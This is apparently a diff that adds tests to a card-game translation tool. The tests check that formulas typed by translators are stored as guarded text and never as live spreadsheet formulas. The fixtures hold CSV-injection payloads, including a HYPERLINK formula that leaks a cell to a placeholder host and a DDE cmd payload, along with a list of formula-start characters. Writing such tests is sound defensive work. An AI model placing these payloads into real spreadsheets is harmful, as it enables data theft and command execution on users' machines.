@@ -331,3 +331,77 @@ def test_a_sheet_row_the_import_does_not_change_keeps_its_very_text(translated, 
     assert len(after) == len(before)
     assert [i for i, (a, b) in enumerate(zip(before, after, strict=True)) if a != b] == [next(i for i, x in enumerate(before) if x.startswith("emerald-3,"))]
     assert after[at].startswith('"sapphire-1","Sapphire shard"')
+
+
+HOSTILE = {  # what a translator may type that a spreadsheet program would run (issue #100 item 1): (card, field) → text
+    ("ruby-1", "name"): "+1+1",
+    ("ruby-3", "name"): "@SUM(A1)",
+    ("emerald-1", "text"): '=HYPERLINK("http://x.example/?"&A1,"click")',
+    ("emerald-3", "name"): "'=1+1",  # the export's own guarded cell: the text =1+1
+    ("sapphire-1", "text"): "=cmd|' /C calc'!A0",
+}
+FORMULA_STARTS = "=+-@\t\r"  # what Excel, LibreOffice and Google Sheets read as the start of a formula (OWASP, CSV injection)
+
+
+def hostile_sheet(root: Path, path: Path) -> None:
+    """A filled sheet holding HOSTILE, each row's English as the deck's CSV has it."""
+    deck = read_csv(root / SHEET)
+    english = {(row[0], name): row[deck[0].index(name)] for row in deck[1:] for name in ("name", "text")}
+    rows = [["id", "where", "en", "de", "status", "fits", "face"]]
+    rows += [[f"{SHEET}#cards[{card}].{name}", "", english[card, name], german, "missing", "", ""] for (card, name), german in HOSTILE.items()]
+    write_csv(path, rows)
+
+
+def test_a_translator_s_formula_is_text_in_the_designer_s_csv_and_on_the_card(translated, tmp_path):
+    """Each hostile cell lands in the deck's CSV behind the `'` guard (no field starts like a formula, as a spreadsheet
+    program reads the file), and the German card prints it as the translator wrote it (the export's `'=1+1` as =1+1)."""
+    shutil.copytree(translated / "data", tmp_path / "data")
+    shutil.copytree(translated / "templates", tmp_path / "templates")
+    hostile_sheet(tmp_path, tmp_path / "de.csv")
+    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv"))
+    assert result.exit_code == 0 and "warning" not in result.output and f"{SHEET}: 5 translations written" in result.output, result.output
+    rows = read_csv(tmp_path / SHEET)
+    head = rows[0]
+    assert not [v for row in rows for v in row if v[:1] and v[0] in FORMULA_STARTS]  # no live formula anywhere in the file
+    by_id = {row[0]: row for row in rows[1:]}
+    for (card, name), german in HOSTILE.items():
+        shown = german.removeprefix("'")
+        assert by_id[card][head.index(f"{name}@de")] == "'" + shown  # the guard before it, which a spreadsheet program hides
+        assert by_id[card][head.index(f"{name}@de~src")] == letters(by_id[card][head.index(name)])
+    result = run_pnp(tmp_path, "build", "gems", "--lang", "de", "--only", "cards")
+    assert result.exit_code == 0, result.output
+    printed = pdf_text(tmp_path / "output" / "gems" / "gems-cards-de.pdf").replace(" ", "")
+    printed = printed.translate(str.maketrans("“”’", "\"\"'"))  # the card sets its quotes typographically
+    for german in HOSTILE.values():
+        assert german.removeprefix("'").replace(" ", "") in printed
+    assert "'=1+1" not in printed and "'+1+1" not in printed  # the guard is never printed
+
+
+def test_a_translator_s_formula_never_enters_a_workbook_deck(translated, tmp_path):
+    """A deck read from an XLSX: pnp does not write workbooks, so each translation is an error at its cell that says to
+    type it after a `'`, and the workbook holds no formula (its XML read back: every cell a string, no `<f>`)."""
+    import zipfile
+
+    from openpyxl import Workbook
+
+    shutil.copytree(translated / "data", tmp_path / "data")
+    decks = tmp_path / "data" / "gems" / "decks"
+    book = Workbook()
+    for row in read_csv(decks / "crystals.csv"):
+        book.active.append(row)
+    book.save(decks / "crystals.xlsx")
+    (decks / "crystals.csv").unlink()
+    deck = decks / "crystals.yaml"
+    deck.write_text(deck.read_text(encoding="utf-8").replace("cards_from: crystals.csv", "cards_from: crystals.xlsx"), encoding="utf-8")
+    before = (decks / "crystals.xlsx").read_bytes()
+    hostile_sheet(translated, tmp_path / "de.csv")
+    text = (tmp_path / "de.csv").read_text(encoding="utf-8").replace("data/gems/decks/crystals.csv", "data/gems/decks/crystals.xlsx")
+    (tmp_path / "de.csv").write_text(text, encoding="utf-8")
+    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv"))
+    errors = [line for line in result.output.splitlines() if ": error: " in line]
+    assert result.exit_code == 1 and len(errors) == 5, result.output
+    assert all("after a `'`, so the program keeps it as text" in line for line in errors), errors
+    assert (decks / "crystals.xlsx").read_bytes() == before
+    with zipfile.ZipFile(decks / "crystals.xlsx") as zf:
+        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
